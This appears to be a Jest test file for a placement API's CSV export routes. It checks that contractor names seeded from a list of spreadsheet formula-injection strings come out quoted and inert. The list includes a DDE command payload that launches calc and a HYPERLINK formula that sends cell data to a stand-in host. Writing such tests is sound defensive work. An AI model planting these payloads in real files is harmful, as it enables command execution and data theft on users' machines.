/**
 * Files that a spreadsheet opens: what somebody else typed must not run there. Goes red without the quote that `written`
 * puts in front, and with it for `=` alone.
 */
import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { RouteContract } from '../../src/contracts/api/route.js';
import { ROUTES } from '../../src/contracts/api/routes/index.js';
import { testApi, type TestApi } from '../support/api.js';

const HOSTILE = ['=HYPERLINK("https://voorbeeld.example?x="&A1;"klik")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1;1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '";=1+1;"', '|calc'];
/** What Excel, LibreOffice or Sheets may take for a formula, also after blanks. */
const RUNS = /^[\s\u00A0\uFEFF]*[=+\-@|＝＋－＠]/;
const csvRoutes = (Object.values(ROUTES) as RouteContract[]).filter(({ responseType }) => responseType?.startsWith('text/csv'));
const at = (month: number) => new Date(Date.UTC(2026, month - 1, 5, 8)).toISOString();
let api: TestApi;

beforeAll(async () => {
  api = await testApi();
  for (const name of HOSTILE) {
    const contractorId = randomUUID();
    await api.store.models.contractors.create({ _id: contractorId, rev: 1, name, sortName: name, regions: ['AM24'], createdAt: at(1), changedAt: at(1) });
    const row = { rev: 1, region: 'AM24', targetGroup: 'ww', proposalId: 'p', assignmentId: 'a', startsAt: at(1), endsAt: at(5), agreedAt: at(1), startedAt: at(1), absences: [], gapDays: null, status: 'ended', endedAt: at(4), ending: 'completed', contractorId };
    await api.store.models.placements.insertMany(Array.from({ length: 12 }, () => ({ _id: randomUUID(), candidateId: randomUUID(), ...row })) as never[]);
  }
}, 180_000);

describe('a file for a spreadsheet', () => {
  it('comes from routes that are known here', () => {
    expect(csvRoutes.map(({ path }) => path).filter((path) => !/^\/v1\/insights\/[a-z-]+\/export$/.test(path))).toEqual(['/v1/imports/template']);
    expect(csvRoutes.length).toBeGreaterThan(3);
  });

  it.each(csvRoutes.flatMap(({ path, roles }) => ['', '?groupBy=contractorId', '?language=en'].map((query) => [`${path}${query}`, roles[0]!] as const)))('%s has no cell that runs', async (path, role) => {
    const { status, text, headers } = await api.send('GET', path, { as: role });
    if (status === 400) return; // no such grouping or language here
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    const rows = parse(text, { bom: true, delimiter: path.includes('language=en') ? ',' : ';', relax_column_count: true }) as string[][];
    const running = rows.flat().filter((cell) => RUNS.test(cell) && !/^-?\d+(,\d+)?$/.test(cell));
    expect(running).toEqual([]);
  });

  it('holds every hostile name, harmless', async () => {
    const { text } = await api.send('GET', '/v1/insights/placements/export?from=2026-01&to=2026-06&groupBy=contractorId', { as: 'manager' });
    const cells = (parse(text, { bom: true, delimiter: ';' }) as string[][]).map(([first]) => first);
    for (const name of HOSTILE) expect(cells).toContain(RUNS.test(name) ? `'${name}` : name);
  });
});
